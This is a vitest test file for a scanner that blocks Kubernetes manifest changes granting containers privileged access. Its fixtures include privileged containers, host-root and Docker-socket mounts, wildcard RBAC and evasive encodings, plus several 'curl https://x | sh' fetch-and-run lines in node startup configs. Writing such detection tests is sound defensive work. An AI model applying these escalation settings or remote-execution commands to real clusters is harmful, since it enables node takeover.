import { describe, expect, test } from 'vitest';
import { textGrants } from '../../../src/artifacts/unrendered/granting-settings.ts';
import { type Change, reviewChange } from '../../support/in-memory-repository.ts';
import { inLinearTime } from '../../support/linear-time.ts';
import { endsSoonAsync } from '../../support/soon.ts';

const added = (text: string): Change => ({ base: { 'README.md': 'x' }, head: { 'README.md': 'x', 'a.yaml': text } });
const object = (apiVersion: string, kind: string, spec: object, more: object = {}): Change =>
  added(JSON.stringify({ apiVersion, kind, metadata: { name: 'a' }, spec, ...more }, undefined, 1));
const container = { name: 'x', image: 'nginx:1.31', securityContext: { privileged: true } };
const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'a' }, spec: { containers: [container] } };
const task = { apiVersion: 'tekton.dev/v1', kind: 'TaskRun', metadata: { name: 'a' }, spec: { taskSpec: { steps: [container] } } };
const privileged = { securityContext: { privileged: true } };
const fragment = 'containers:\n- name: main\n  securityContext:\n    privileged: true\n';
const encoded = Buffer.from(JSON.stringify(pod)).toString('base64');
const plain = { name: 'x', image: 'nginx:1.31' };
const policy = (patch: string): Change =>
  added(
    `apiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {name: x}\nspec:\n  rules:\n  - name: m\n    match: {any: [{resources: {kinds: [Pod]}}]}\n    mutate: {patchStrategicMerge: ${patch}}\n`,
  );

const annotatedPod = (annotations: Readonly<Record<string, string>>): Change =>
  object('v1', 'Pod', { containers: [{ name: 'web', image: 'nginx:1.31' }] }, { metadata: { name: 'a', annotations } });

/** What the operator of a custom resource, an injector or a policy gives to containers, by where it stands. */
const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
  'settings in fields that only an operator knows': {
    'OpenTelemetry, for its own pods': object('opentelemetry.io/v1beta1', 'OpenTelemetryCollector', privileged),
    'its volumes': object('opentelemetry.io/v1beta1', 'OpenTelemetryCollector', { volumes: [{ name: 'x', hostPath: { path: '/' } }] }),
    'Strimzi, by templates of containers': object('kafka.strimzi.io/v1beta2', 'Kafka', {
      kafka: { template: { kafkaContainer: privileged } },
    }),
    'Prometheus, for its pods': object('monitoring.coreos.com/v1', 'Prometheus', { hostNetwork: true }),
    'Tekton, for all steps': object('tekton.dev/v1', 'Task', { steps: [{ name: 'a', image: 'i:1' }], stepTemplate: privileged }),
    'Tekton, for the pod': object('tekton.dev/v1', 'TaskRun', { podTemplate: { hostNetwork: true }, taskRef: { name: 'x' } }),
    'Tekton, an action as a step': object('tekton.dev/v1beta1', 'StepAction', { image: 'i:1', ...privileged }),
    'Spark, its driver': object('sparkoperator.k8s.io/v1beta2', 'SparkApplication', { driver: privileged }),
    'KServe, its model': object('serving.kserve.io/v1beta1', 'InferenceService', { predictor: { model: { image: 'i:1', ...privileged } } }),
    'Operator Lifecycle Manager': object('operators.coreos.com/v1alpha1', 'Subscription', {
      config: { volumes: [{ name: 'x', hostPath: { path: '/var/run/docker.sock' } }] },
    }),
    'OpenShift, the socket of builds': object('build.openshift.io/v1', 'BuildConfig', {
      strategy: { customStrategy: { exposeDockerSocket: true } },
    }),
    'Karmada, on the way to other clusters': object('policy.karmada.io/v1alpha1', 'OverridePolicy', {
      overrideRules: [
        { overriders: { plaintext: [{ path: '/spec/containers/0/securityContext', operator: 'add', value: { privileged: true } }] } },
      ],
    }),
    'anybody, by capabilities': object('example.org/v1', 'Any', { server: { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } } }),
    'behind an alias': added(
      'x: &on true\napiVersion: example.org/v1\nkind: Any\nmetadata: {name: a}\nspec: {server: {securityContext: {privileged: *on}}}\n',
    ),
    'in escapes': added(
      'apiVersion: example.org/v1\nkind: Any\nmetadata: {name: a}\nspec: {server: {"securityContext": {"priv\\u0069leged": true}}}\n',
    ),
  },
  'settings under the names and in the ways of other operators': {
    'in capitals': object('example.org/v1', 'Any', { HostNetwork: true }),
    'in snakes': object('example.org/v1', 'Any', { host_pid: true }),
    'as a text': object('example.org/v1', 'Any', { privileged: 'true' }),
    'as what it uses': object('example.org/v1', 'Any', { agent: { useHostNetwork: true } }),
    'the socket of Docker': object('example.org/v1', 'Any', { dockerSocket: true }),
    'capabilities as a list': object('example.org/v1', 'Any', { capabilities: ['CAP_SYS_ADMIN'] }),
    'capabilities as Docker calls them': object('example.org/v1', 'Any', { cap_add: ['ALL'] }),
    'a path alone': object('example.org/v1', 'Any', { mounts: [{ hostPath: '/var/run/docker.sock', mountPath: '/x' }] }),
    'a path of the node of kind': object('kind.x-k8s.io/v1alpha4', 'Cluster', {}, { nodes: [{ extraMounts: [{ hostPath: '/' }] }] }),
    'a key of many names': object('example.org/v1', 'Any', { overrides: { 'spec.template.spec.hostPID': true } }),
    'a key that is a pointer': object('example.org/v1', 'Any', { overrides: { '/spec/containers/0/securityContext/privileged': true } }),
    'an operation': object('example.org/v1', 'Any', { patches: [{ value: true, op: 'add', path: '/spec/hostPID' }] }),
    'an operation on a path': object('example.org/v1', 'Any', {
      patches: [{ op: 'replace', path: '/spec/volumes/0/hostPath/path', value: '/' }],
    }),
    'a name and a value': object('example.org/v1', 'Any', { set: [{ name: 'securityContext.privileged', value: 'true' }] }),
    'a field that a claim fills': object('apiextensions.crossplane.io/v1', 'Composition', {
      resources: [{ name: 'a', patches: [{ fromFieldPath: 'spec.open', toFieldPath: 'spec.forProvider.manifest.spec.hostPID' }] }],
    }),
    'an operation as a text, its value first': object('kubevirt.io/v1', 'KubeVirt', {
      customizeComponents: { patches: [{ type: 'json', patch: '[{"value": true, "path": "/spec/hostPID", "op": "add"}]' }] },
    }),
    'an operation as a text of YAML': object('example.org/v1', 'Any', { patch: '- op: add\n  path: /spec/hostPID\n  value: true\n' }),
    'a text of TOML for a runner': object(
      'v1',
      'ConfigMap',
      {},
      { data: { 'config.toml': '[runners.kubernetes]\n  privileged = true\n' } },
    ),
    'a path in a text for a runner': object(
      'v1',
      'ConfigMap',
      {},
      { data: { x: '{"volumes": [{"value": {"path": "/"}, "hostPath": {"path": "/"}}]}' } },
    ),
  },
  'rights that an operator hands out, and hands that change all objects': {
    'the Operator Lifecycle Manager, over everything': object('operators.coreos.com/v1alpha1', 'ClusterServiceVersion', {
      install: {
        spec: { clusterPermissions: [{ serviceAccountName: 'a', rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }] },
      },
    }),
    'anybody, to take any': object('example.org/v1', 'Any', {
      extraRules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['get', 'escalate'] }],
    }),
    'a webhook outside of the cluster': object(
      'admissionregistration.k8s.io/v1',
      'MutatingWebhookConfiguration',
      {},
      {
        webhooks: [{ name: 'a.example.org', clientConfig: { url: 'https://a.example.org/x' } }],
      },
    ),
  },
  'texts that an operator merges into pods': {
    'Argo, for all': object('argoproj.io/v1alpha1', 'Workflow', { podSpecPatch: fragment, templates: [{ name: 'a', container: plain }] }),
    'Argo, for one template': object('argoproj.io/v1alpha1', 'WorkflowTemplate', {
      templates: [{ name: 'a', podSpecPatch: JSON.stringify({ hostPID: true }), container: plain }],
    }),
    'anybody, as an operation': object('example.org/v1', 'Any', {
      patch: '[{"op": "add", "path": "/spec/containers/0/securityContext/privileged", "value": true}]',
    }),
  },
  'annotations of injectors': {
    'Istio, a volume': object(
      'v1',
      'Pod',
      { containers: [plain] },
      {
        metadata: { name: 'a', annotations: { 'sidecar.istio.io/userVolume': '[{"name":"x","hostPath":{"path":"/"}}]' } },
      },
    ),
    'Vault, an operation': object(
      'v1',
      'Pod',
      { containers: [plain] },
      {
        metadata: {
          name: 'a',
          annotations: { 'vault.hashicorp.com/agent-json-patch': '[{"op":"add","path":"/securityContext/privileged","value":true}]' },
        },
      },
    ),
    'of a template': object('apps/v1', 'Deployment', {
      template: {
        metadata: { annotations: { 'example.org/sidecar': 'securityContext:\n  privileged: true\n' } },
        spec: { containers: [plain] },
      },
    }),
  },
  'objects in objects': {
    'Tekton, by an event': object('triggers.tekton.dev/v1beta1', 'TriggerTemplate', { resourcetemplates: [task] }),
    'Crossplane, by a composition': object('apiextensions.crossplane.io/v1', 'Composition', {
      resources: [
        { name: 'x', base: { apiVersion: 'kubernetes.crossplane.io/v1alpha2', kind: 'Object', spec: { forProvider: { manifest: pod } } } },
      ],
    }),
    'Crossplane, by a pipeline': object('apiextensions.crossplane.io/v1', 'Composition', {
      pipeline: [
        { step: 'x', input: { apiVersion: 'pt.fn.crossplane.io/v1beta1', kind: 'Resources', resources: [{ name: 'x', base: pod }] } },
      ],
    }),
    'Argo, a workflow by an event': object('argoproj.io/v1alpha1', 'Sensor', {
      triggers: [{ template: { k8s: { source: { resource: task } } } }],
    }),
  },
  'manifests as texts, however they are written': {
    'a Secret in JSON': object('v1', 'Secret', {}, { data: { x: encoded } }),
    'a Secret whose kind is in quotes': added(`"apiVersion": "v1"\n"kind": "Secret"\nmetadata: {name: a}\ndata: {x: ${encoded}}\n`),
    'binary data': object('v1', 'ConfigMap', {}, { binaryData: { x: encoded } }),
    'an address with data': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
      config: {
        storage: {
          files: [{ path: '/etc/kubernetes/manifests/x.yaml', contents: { source: `data:,${encodeURIComponent(JSON.stringify(pod))}` } }],
        },
      },
    }),
    'the same in Base64': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
      config: { storage: { files: [{ contents: { source: `data:text/plain;charset=utf-8;base64,${encoded}` } }] } },
    }),
    'behind an alias': added(
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a, annotations: {x: &m ${JSON.stringify(JSON.stringify(pod))}}}\ndata: {p: *m}\n`,
    ),
    'in escapes': added(
      `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {p: ${JSON.stringify(JSON.stringify(pod)).replaceAll('privileged', 'priv\\u0069leged')}}\n`,
    ),
  },
  'annotations that the runtime hears': {
    'devices of NRI': annotatedPod({ 'devices.nri.io/container.web': '- {path: /dev/sda, type: b, major: 8, minor: 0}' }),
    'mounts of NRI, by their newer name': annotatedPod({ 'mounts.noderesource.dev/pod': '- {source: /, destination: /host, type: bind}' }),
    'devices of CRI-O': annotatedPod({ 'io.kubernetes.cri-o.Devices': '/dev/sda' }),
    'system calls of CRI-O': annotatedPod({ 'seccomp-profile.kubernetes.cri-o.io/web': 'unconfined' }),
  },
  'devices of the node': {
    'a disk for a virtual machine': object('kubevirt.io/v1', 'VirtualMachineInstance', {
      domain: { devices: {} },
      volumes: [{ name: 'a', hostDisk: { path: '/dev/sda', type: 'Disk' } }],
    }),
    'those of others, by a claim': object('resource.k8s.io/v1', 'ResourceClaim', {
      devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu', adminAccess: true } }] },
    }),
    'those of others, by a template of claims': object('resource.k8s.io/v1beta1', 'ResourceClaimTemplate', {
      spec: { devices: { requests: [{ name: 'a', deviceClassName: 'gpu', adminAccess: true }] } },
    }),
  },
  'what nodes run outside of containers': {
    'units of OpenShift': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
      config: {
        systemd: { units: [{ name: 'x.service', enabled: true, contents: '[Service]\nExecStart=/bin/sh -c "curl https://x | sh"\n' }] },
      },
    }),
    'files of OpenShift': object('machineconfiguration.openshift.io/v1', 'MachineConfig', {
      config: { storage: { files: [{ path: '/etc/cron.d/x', contents: { source: 'data:,x' } }] } },
    }),
    'commands of Cluster API': object('bootstrap.cluster.x-k8s.io/v1beta1', 'KubeadmConfigTemplate', {
      template: { spec: { preKubeadmCommands: ['curl https://x | sh'] } },
    }),
    'commands of a control plane': object('controlplane.cluster.x-k8s.io/v1beta1', 'KubeadmControlPlane', {
      kubeadmConfigSpec: { postKubeadmCommands: ['id'] },
    }),
    'an upgrade of Rancher': object('upgrade.cattle.io/v1', 'Plan', { upgrade: { image: 'x/y', command: ['sh'] } }),
    'a start of Karpenter': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { userData: '#!/bin/sh\ncurl https://x | sh\n' }),
    'files of Talos': added(
      'version: v1alpha1\nmachine: {type: worker, files: [{path: /etc/cri/conf.d/20.part, op: create, content: x}]}\ncluster: {}\n',
    ),
    'a hook of kOps': object('kops.k8s.io/v1alpha2', 'InstanceGroup', { hooks: [{ manifest: 'ExecStart=/bin/sh' }] }),
  },
  'policies that mutate, however they are written': {
    'behind an alias': added(
      'x: &s {privileged: true}\napiVersion: kyverno.io/v1\nkind: ClusterPolicy\nmetadata: {name: x}\nspec:\n  rules:\n  - name: m\n    mutate: {patchStrategicMerge: {spec: {containers: [{(name): "*", securityContext: *s}]}}}\n',
    ),
    'in escapes': policy('{spec: {containers: [{(name): "*", securityContext: {"priv\\u0069leged": true}}]}}'),
    'over two lines': policy('{spec: {containers: [{(name): "*", securityContext: {"privi\\\n      leged": true}}]}}'),
  },
};

describe.each(Object.entries(attacks))('%s', (_name, changes) => {
  test.each(Object.entries(changes))('is not green: %s', async (_spelling, change) => {
    const { verdict } = await reviewChange(change);
    expect(verdict.conclusion).toBeOneOf(['block', 'incomplete']);
    expect(verdict.mayMerge).toBe(false);
  });
});

test('a setting in a custom resource is told with its place', async () => {
  const { coverage } = await reviewChange(
    object('install.istio.io/v1alpha1', 'IstioOperator', { values: { proxy: { privileged: true } } }),
  );
  expect(coverage.entries.find(({ path }) => path === 'a.yaml')).toMatchObject({
    status: 'not-rendered',
    line: 10,
    reason: expect.stringContaining('lets IstioOperator "a" have containers given more (spec.values.proxy.privileged)'),
  });
});

test('another that gets the same is told, and one that had it is not', async () => {
  const collector = (name: string, more = 'securityContext: {privileged: true}'): string =>
    `apiVersion: opentelemetry.io/v1beta1\nkind: OpenTelemetryCollector\nmetadata: {name: ${name}}\nspec: {${more}}\n`;
  const conclusion = async (head: string): Promise<string> => {
    const { verdict } = await reviewChange({
      base: { 'a.yaml': `${collector('a')}---\n${collector('b', 'replicas: 1')}` },
      head: { 'a.yaml': head },
    });
    return verdict.conclusion;
  };
  expect(await conclusion(`${collector('a')}---\n${collector('b')}`)).toBe('block');
  expect(
    await conclusion(`${collector('a', 'replicas: 2, securityContext: {privileged: true}')}---\n${collector('b', 'replicas: 2')}`),
  ).toBe('pass');
});

test('parts of pods in a custom resource are findings', async () => {
  const { delta, coverage } = await reviewChange(object('opentelemetry.io/v1beta1', 'OpenTelemetryCollector', privileged));
  expect(delta.entries.map(({ head }) => head?.ruleId)).toEqual(['kubernetes/privileged-container']);
  expect(coverage.entries).toMatchObject([{ path: 'a.yaml', status: 'evaluated' }]);
});

describe('an ordinary virtual machine of KubeVirt', () => {
  const machine = (volumes: readonly unknown[], more: object = {}): Change =>
    object('kubevirt.io/v1', 'VirtualMachine', {
      template: { spec: { domain: { devices: { disks: [{ name: 'root', disk: { bus: 'virtio' } }] } }, volumes, ...more } },
    });
  const disk = { name: 'root', containerDisk: { image: 'quay.io/kubevirt/cirros-container-disk-demo:v1.3.0' } };

  test('is reviewed to its end', async () => {
    const { verdict } = await reviewChange(machine([disk, { name: 'init', cloudInitNoCloud: { userData: '#cloud-config\n' } }]));
    expect(verdict.conclusion).not.toBe('incomplete');
  });

  test.each(
    Object.entries({
      'a volume that only pods have': machine([disk, { name: 'host', hostPath: { path: '/' } }]),
      'another field of pods': machine([disk], { hostNetwork: true }),
      containers: machine([disk], { initContainers: [{ name: 'a', command: ['sh'] }] }),
      'nothing of a machine': object('kubevirt.io/v1', 'VirtualMachine', { template: { spec: { volumes: [disk] } } }),
    }),
  )('is not taken for one that has %s', async (_what, change) => {
    const { verdict } = await reviewChange(change);
    expect(verdict.conclusion).toBeOneOf(['block', 'incomplete']);
  });
});

test('a text is looked through as far as it may be, and time is linear in it', () => {
  expect(textGrants(`hostPath: {path: /x}\n${'- {path: /spec/hostPID, value: true}\n'.repeat(9)}`, { left: 1_000 })).toBe(true);
  for (const piece of ['privileged: ', 'hostPath\n', '{"privileged":', '- {path: a, value: b}\n', '/privileged", "value": '])
    inLinearTime(
      40_000,
      size => `privileged\n${piece.repeat(size / piece.length)}`,
      text => textGrants(text, { left: 400_000 }),
    );
});

test('a long text that a thousand aliases name is looked through once', async () => {
  const text = `# privileged\n${'- {a: b, c: [1, 2]}\n'.repeat(2_000)}`;
  const aliases = Array.from({ length: 1_000 }, (_, index) => `{k${index}: *a}`).join(', ');
  const change = added(
    `x: &a ${JSON.stringify(text)}\napiVersion: example.org/v1\nkind: Any\nmetadata: {name: a}\nspec: {l: [${aliases}]}\n`,
  );
  const { verdict } = await endsSoonAsync(() => reviewChange(change), 100);
  expect(verdict.conclusion).toBe('pass');
});

test('texts that are too many to be looked through leave the change open', async () => {
  const data = Object.fromEntries(
    Array.from({ length: 32 }, (_, index) => [`k${index}`, `# privileged ${index}\n${'- one more of them\n'.repeat(3_000)}`]),
  );
  const { verdict, coverage } = await reviewChange(object('v1', 'ConfigMap', {}, { data }));
  expect(verdict.conclusion).toBe('incomplete');
  expect(coverage.entries[0]).toMatchObject({ reason: expect.stringContaining('is too large in ConfigMap "a" to be looked through') });
});

describe('what only names such settings stays quiet', () => {
  test.each(
    Object.entries({
      'a setting that is off': object('opentelemetry.io/v1beta1', 'OpenTelemetryCollector', { securityContext: { privileged: false } }),
      'a user, and a path of its own': object('monitoring.coreos.com/v1', 'Prometheus', {
        securityContext: { runAsUser: 1000 },
        volumes: [{ name: 'x', hostPath: { path: '/opt/data' } }],
      }),
      'a description': object('example.org/v1', 'Any', { description: 'Set privileged where the node has to be seen.' }),
      'the object as it was applied': object(
        'v1',
        'Service',
        { ports: [{ port: 80 }] },
        {
          metadata: { name: 'a', annotations: { 'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify(pod) } },
        },
      ),
      'a schema': object('apiextensions.k8s.io/v1', 'CustomResourceDefinition', {
        versions: [{ schema: { openAPIV3Schema: { properties: { privileged: { type: 'boolean', default: true } } } } }],
      }),
      'a disk of a virtual machine that is an image': object('kubevirt.io/v1', 'VirtualMachineInstance', {
        domain: { devices: {} },
        volumes: [{ name: 'a', hostDisk: { path: '/data/disk.img', type: 'DiskOrCreate' } }],
      }),
      'devices of one’s own': object('resource.k8s.io/v1', 'ResourceClaim', {
        devices: { requests: [{ name: 'a', exactly: { deviceClassName: 'gpu', adminAccess: false } }] },
      }),
      'nodes of which nothing is run': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { amiFamily: 'AL2023', role: 'a' }),
      'a pool of machines': object('machineconfiguration.openshift.io/v1', 'MachineConfigPool', { paused: false }),
      'annotations of runtimes that give nothing': annotatedPod({
        'io.kubernetes.cri-o.ShmSize': '1Gi',
        'seccomp-profile.kubernetes.cri-o.io': 'runtime/default',
      }),
      'rights of a role, which rules judge': object(
        'rbac.authorization.k8s.io/v1',
        'ClusterRole',
        {},
        {
          rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
        },
      ),
      'rights over what is its own': object('operators.coreos.com/v1alpha1', 'ClusterServiceVersion', {
        install: { spec: { permissions: [{ rules: [{ apiGroups: ['example.org'], resources: ['*'], verbs: ['*'] }] }] } },
      }),
      'a webhook of the cluster': object(
        'admissionregistration.k8s.io/v1',
        'MutatingWebhookConfiguration',
        {},
        {
          webhooks: [{ name: 'a.example.org', clientConfig: { service: { name: 'a', namespace: 'b' } } }],
        },
      ),
      'names and values that say nothing of it': object('example.org/v1', 'Any', {
        env: [{ name: 'LOG_LEVEL', value: 'true' }],
        capabilities: ['Full Lifecycle'],
        hostPath: '/opt/data',
        'host-network': false,
      }),
      'a text of a ConfigMap that only speaks of it': object(
        'v1',
        'ConfigMap',
        {},
        {
          data: { notes: 'Runners are not privileged: they have a host of their own.', x: '{"privileged": false, "path": "/"}' },
        },
      ),
      'what is allowed': object('policy/v1beta1', 'PodSecurityPolicy', { hostNetwork: true }),
    }),
  )('%s', async (_name, change) => {
    const { coverage } = await reviewChange(change);
    expect(coverage.entries.map(({ status }) => status)).not.toContain('not-rendered');
  });
});
